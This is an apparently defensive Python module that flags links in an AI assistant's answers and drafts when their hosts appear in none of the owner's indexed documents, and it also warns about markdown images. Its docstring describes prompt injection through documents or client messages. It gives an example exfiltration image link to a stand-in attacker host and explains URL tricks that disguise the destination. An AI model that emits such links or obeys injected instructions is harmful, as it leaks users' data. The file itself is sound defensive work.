"""Links in what the AI wrote, checked against the sites the owner's documents mention.

An instruction hidden in a document or a client's message most often wants a link in the
answer or the draft: a markdown image that would carry data away
(``![x](https://evil.example/?q=SECRET)``), or a "pay here" page. A link whose host no indexed
document mentions is flagged in one line (never removed: the owner decides). Hosts are read as a
browser reads them (``https://studio.example@evil.example/`` goes to evil.example; a backslash
ends the host), shown in ASCII so a look-alike name stands out, and a subdomain of a mentioned
host counts as mentioned.
"""

from __future__ import annotations

import re
from urllib.parse import urlsplit

from sqlalchemy import func, select
from sqlalchemy.orm import Session, sessionmaker

from bot.db.knowledge import Chunk

_REST = r"[^\s<>\"'`()\[\]{}]"
URL = re.compile(rf"\b(?:https?|ftp)://(?:\[[0-9a-f:.]+\])?{_REST}*|\bwww\.{_REST}+", re.IGNORECASE)
IMAGE = re.compile(r"!\[[^\]\n]*\]\(\s*<?(?:[a-z][a-z0-9+.-]*:|//|www\.)", re.IGNORECASE)
SHOWN_HOSTS = 5
CANDIDATE_CHUNKS = 200


def hosts(text: str) -> list[str]:
    """The hosts that the links in `text` lead to, lower-case ASCII, in order, no repeats."""
    found: dict[str, None] = {}
    for match in URL.finditer(text):
        link = match.group().replace("\\", "/")
        if not re.match(r"(?i)[a-z]+://", link):
            link = "http://" + link
        try:
            host = urlsplit(link).hostname
        except ValueError:  # an unbalanced IPv6 bracket: not a link a client would open
            continue
        if host:
            found.setdefault(_ascii(host.rstrip(".")), None)
    return list(found)


def _ascii(host: str) -> str:
    try:
        return host.encode("idna").decode("ascii")
    except UnicodeError:
        return host.encode("ascii", "backslashreplace").decode("ascii")


def _parents(host: str) -> list[str]:
    """`host` and the domains above it that still have two labels: a.b.example → b.example.

    An IP address (or anything whose last label is not a name) only counts as itself.
    """
    labels = host.removeprefix("www.").split(".")
    if not labels[-1].isalpha():
        return [host]
    return [".".join(labels[i:]) for i in range(max(len(labels) - 1, 1))]


def _mentions(text: str, host: str) -> bool:
    return re.search(rf"(?<![\w.-]){re.escape(host)}(?![\w-])", text.lower()) is not None


class LinkGuard:
    """Which links in a text lead to sites that none of the indexed documents mention."""

    def __init__(self, sessions: sessionmaker[Session]) -> None:
        self._sessions = sessions

    def unknown_hosts(self, text: str) -> list[str]:
        found = hosts(text)
        if not found:
            return []
        with self._sessions() as session:
            return [host for host in found if not self._mentioned(session, host)]

    def notes(self, text: str) -> list[str]:
        """A warning sentence for a markdown image and for links to unmentioned sites."""
        notes = []
        if IMAGE.search(text):
            notes.append(
                "⚠️ It holds a markdown image (shown as text, never loaded): a way to leak data."
            )
        unknown = self.unknown_hosts(text)
        if unknown:
            shown = ", ".join(unknown[:SHOWN_HOSTS]) + (", …" if len(unknown) > SHOWN_HOSTS else "")
            notes.append(
                f"⚠️ It links to {shown}, which none of your documents mention; check first."
            )
        return notes

    @staticmethod
    def _mentioned(session: Session, host: str) -> bool:
        for name in _parents(host):
            query = (
                select(Chunk.text)
                .where(func.lower(Chunk.text).contains(name, autoescape=True))
                .limit(CANDIDATE_CHUNKS)
            )
            if any(_mentions(text, name) for text in session.scalars(query)):
                return True
        return False
